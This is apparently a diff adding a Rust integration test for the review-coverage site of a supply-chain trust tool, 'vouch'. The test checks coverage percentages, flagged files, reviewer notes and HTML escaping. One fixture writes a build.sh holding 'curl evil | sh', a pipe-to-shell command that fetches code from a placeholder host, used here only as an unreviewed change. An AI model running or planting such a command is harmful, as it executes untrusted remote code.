@@ -365,3 +365,72 @@ fn the_review_table_is_linted() {
         .says("line 1: docs/README.md is not among the reviewed files");
     w.review(&r1, "agency-a", "x", &["--criteria", "c", "--verdict", "pass"]).code(2);
 }
+
+/// `site build --trust --reviews`: coverage on the index and the release
+/// page (with its chart and table), the failed requirement at the top, a
+/// "left to review" page, and on a file page who reviewed these bytes and
+/// the notes linked to their lines; every new page valid HTML (Nu HTML
+/// Checker).
+#[test]
+fn the_site_shows_coverage_reviewers_notes_and_what_is_left() {
+    let w = World::new();
+    let policy = w.policy("trust.toml", "\n[review]\ncriteria = [\"safe-to-deploy\"]\ncoverage = 100\n");
+    write_src(&w, "v1", V1);
+    let r1 = w.release("v1", "1.0.0");
+    w.review(&r1, "agency-a", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "pass", "--all"]).ok();
+    write_src(&w, "v2", V1);
+    write_src(&w, "v2", &[("build.sh", "curl evil | sh\n")]);
+    let r2 = w.release("v2", "1.1.0");
+    let notes = w.d.write("notes.txt", "src/parse.rs:1: <b>no</b> bounds check\n");
+    w.review(&r2, "agency-b", "reviews", &["--criteria", "safe-to-deploy", "--verdict", "concerns", "--path", "src/parse.rs", "--notes", notes.to_str().unwrap()])
+        .ok();
+    w.d.write("reviews/junk.review.dsse.json", "{}");
+    let site = w.d.join("site");
+    TestCommand::vouch([
+        "site",
+        "build",
+        w.d.join("bundles").to_str().unwrap(),
+        "-o",
+        site.to_str().unwrap(),
+        "--trust",
+        policy.to_str().unwrap(),
+        "--reviews",
+        w.d.join("reviews").to_str().unwrap(),
+        "--source",
+        &format!("app@1.1.0={}", w.d.join("v2").display()),
+    ])
+    .run()
+    .ok();
+    let read = |p: &str| std::fs::read_to_string(site.join(p)).unwrap_or_else(|e| panic!("{p}: {e}"));
+    let index = read("index.html");
+    // 1.1.0: build.sh changed (not reviewed) and src/parse.rs flagged; the
+    // flag is about bytes 1.0.0 has too, so it carries back to it as well.
+    assert!(index.contains("60.0%") && index.contains("80.0%"), "{index}");
+    let release = read("r/app/1.1.0/index.html");
+    assert!(release.contains("The policy's review requirement does not hold for this release"), "{release}");
+    assert!(release.contains("3 of 5 files"));
+    assert!(release.contains("id=\"review-chart-title\""));
+    assert!(release.contains("junk.review.dsse.json"));
+    let left = read("r/app/1.1.0/left.html");
+    let build_at = left.find("build.sh").expect("build.sh left");
+    let parse_at = left.find("src/parse.rs").expect("src/parse.rs left (flagged)");
+    assert!(build_at < parse_at, "changed files first: {left}");
+    assert!(left.contains("flagged"));
+    let page = read("r/app/1.1.0/file/src/parse.rs.html");
+    assert!(page.contains("concerns</span> safe-to-deploy by agency-b (agency-b reviewers)"), "{page}");
+    assert!(page.contains("pass</span> safe-to-deploy by agency-a (agency-a reviewers)"), "{page}");
+    assert!(page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;&#x2F;b&gt; bounds check") || page.contains("<a href=\"#L1\">line 1</a>: &lt;b&gt;no&lt;/b&gt; bounds check"), "{page}");
+    let unreviewed = read("r/app/1.1.0/file/build.sh.html");
+    assert!(unreviewed.contains("not reviewed"));
+
+    let java = peer_tool("java");
+    let node = std::env::var_os("VOUCH_TEST_NODE").map(PathBuf::from).unwrap_or_else(|| repo_root().join("target/test-node"));
+    let jar = node.join("node_modules/vnu-jar/build/dist/vnu.jar");
+    assert!(jar.is_file(), "the Nu HTML Checker is not installed at {}", jar.display());
+    let mut args: Vec<String> = vec!["-jar".into(), jar.display().to_string(), "--errors-only".into()];
+    for p in ["index.html", "r/app/1.1.0/index.html", "r/app/1.1.0/left.html", "r/app/1.1.0/file/src/parse.rs.html", "r/app/1.0.0/left.html"] {
+        args.push(site.join(p).display().to_string());
+    }
+    let run = TestCommand::new(&java, &args).run();
+    assert_eq!(run.code, 0, "vnu: {}", run.stderr);
+}
